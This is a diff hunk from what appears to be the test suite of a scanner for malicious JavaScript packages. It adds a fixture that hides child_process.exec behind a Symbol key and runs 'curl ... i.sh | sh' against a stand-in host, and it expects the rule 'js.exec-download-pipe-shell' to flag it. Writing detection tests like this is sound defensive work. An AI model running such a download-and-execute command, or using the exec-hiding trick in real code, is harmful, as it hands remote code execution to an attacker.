@@ -1788,6 +1788,14 @@ host[KEY] = require('child_process').exec;
 host[KEY]('curl -s http://boot.sym-key.example/i.sh | sh');`,
       }),
     ).toContain('js.exec-download-pipe-shell');
+    expect(
+      rules({
+        'index.js': `const reg = {};
+function install() { reg[Symbol.for('pkg.runner')] = require('child_process').exec; }
+install();
+reg[Symbol.for('pkg.runner')]('curl -s http://boot.sym-key.example/i.sh | sh');`,
+      }),
+    ).toContain('js.exec-download-pipe-shell');
   });
   it('a page script whose script address is kept reversed in a package.json field ([...s].reverse().join(""))', () => {
     expect(
